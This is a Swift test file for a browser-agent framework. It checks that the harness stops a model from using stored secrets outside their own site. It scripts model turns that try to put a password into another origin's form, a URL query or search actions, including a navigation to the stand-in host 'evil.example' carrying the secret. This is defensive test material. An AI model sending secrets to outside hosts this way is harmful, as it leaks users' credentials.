//===----------------------------------------------------------------------===//
// This source file is part of Stepcast: live steps of browser agents.
// SPDX-License-Identifier: Apache-2.0
//===----------------------------------------------------------------------===//

import Agent
import AgentEvents
import AgentLogs
import Browser
import Instructions
import Models
import Secrets
import TestSupport
import Testing

/// What a model does with a secret apart from typing it where it belongs.
@Suite("Using a secret", .sharedAgent)
struct SecretUseTests {
    private let value = SecretRun.value
    private let name = SecretRun.name

    @Test("A model that has got to know the value can use it no more freely than the name")
    func knownValue() async throws {
        let fixture = try AgentFixture.shared
        try await PageServer.with { _ in
            SecretTypingTests.form
        } body: { site in
            let pages = SecretPages()
            let run = try await fixture.run(with: AgentFixture.secrets(for: site.origin), pages: pages) { turn in
                switch turn.number {
                case 1: return .navigate("\(site.otherOrigin)/")
                case 2: return .decide(try turn.input("Note", "It is \(value)"))
                case 3: return .navigate("\(site.otherOrigin)/?q=Tr0ub4dor%263+zebra%21")
                case 4: return .navigate("\(site.origin)/")
                case 5: return .decide(try turn.input("Note", "It is \(value)"))
                default:
                    #expect(try await pages.evaluate("document.getElementById('t').value") == "It is \(value)")
                    return .done()
                }
            }
            #expect(run.messages.contains { $0.hasPrefix("⚠️ input failed: the secret x_password is for") })
            #expect(run.messages.contains { $0.hasPrefix("⚠️ navigate failed: the secret x_password is not put into") })
            #expect(!site.targets.contains { $0.contains("zebra") })
            // What the model itself has said came to it from elsewhere; the log has not got it.
            #expect(SecretRun.forms.filter(run.messages.joined().contains) == [])
        }
    }

    @Test(
        "Where nothing is typed a name stays a name, and the model is told",
        arguments: [
            ("navigate", "url", "http://evil.example/?q="), ("search", "query", ""), ("extract", "query", "what is "),
            ("find_text", "text", ""),
        ]
    )
    func notTyped(_ action: String, _ parameter: String, _ before: String) async throws {
        let fixture = try AgentFixture.shared
        try await PageServer.with { _ in
            SecretTypingTests.form
        } body: { site in
            let run = try await fixture.run(with: AgentFixture.secrets(for: site.origin)) { turn in
                switch turn.number {
                case 1: return .navigate("\(site.origin)/")
                case 2: return .decide(.object([action: [parameter: .string(before + name)]]))
                default:
                    #expect(turn.text.contains("the secret x_password is not put into \(action)"))
                    return .done()
                }
            }
            #expect(run.leaks == [])
            #expect(site.targets.allSatisfy { $0 == "/" || $0 == "/favicon.ico" })
        }
    }

    @Test("A name that there is not is told with those that there are; scripts are not run")
    func unknown() async throws {
        let fixture = try AgentFixture.shared
        try await PageServer.with { _ in
            SecretTypingTests.form
        } body: { site in
            let run = try await fixture.run(with: AgentFixture.secrets(for: site.origin)) { turn in
                switch turn.number {
                case 1: return .navigate("\(site.origin)/")
                case 2: return .decide(try turn.input("Password", "<secret>x_pin</secret>"))
                case 3:
                    #expect(turn.text.contains("there is no secret x_pin; there are x_password"))
                    return .decide(["evaluate": ["code": "document.title"]])
                default:
                    #expect(turn.messages.last?.text.contains("not valid") == true, "\(turn.text)")
                    return .done()
                }
            }
            #expect(run.outcome.status == .completed, "\(run.messages)")
        }
    }

    @Test("Instructions copy a value that a page shows no more freely than they type its name")
    func copied() async throws {
        let fixture = try AgentFixture.shared
        try await PageServer.with { _ in
            "<form action=/in><label>Code <input value='Tr0ub4dor&amp;3 zebra!'></label><label>Note <input name=n></label>"
                + "<button>Send</button></form>"
        } body: { site in
            for (origin, isTyped) in [(site.otherOrigin, false), (site.origin, true)] {
                let secrets = try AgentFixture.secrets(for: site.origin)
                let log = try RecordedLog(mask: secrets.mask)
                let agent = InstructionAgent(events: log, secrets: secrets) { try await fixture.browser.newContext() }
                let task = "Go to \(origin)/, copy the Code into the Note field, then click Send"
                let ended = try await Turnstile.pages.pass { try await agent.run(task: task) }
                let outcome = RunOutcome(ended).masked(by: secrets.mask)
                #expect((outcome.status == .completed) == isTyped, "\(log.messages)")
                #expect(site.targets.contains { $0.contains("n=Tr0ub4dor%263+zebra%21") } == isTyped, "\(site.targets)")
                if !isTyped { #expect(outcome.error?.contains("the secret x_password is for \(site.origin)") == true) }
                let said = (log.messages + [outcome.result ?? "", outcome.error ?? ""]).joined(separator: "\n")
                #expect(SecretRun.forms.filter(said.contains) == [])
            }
        }
    }
}
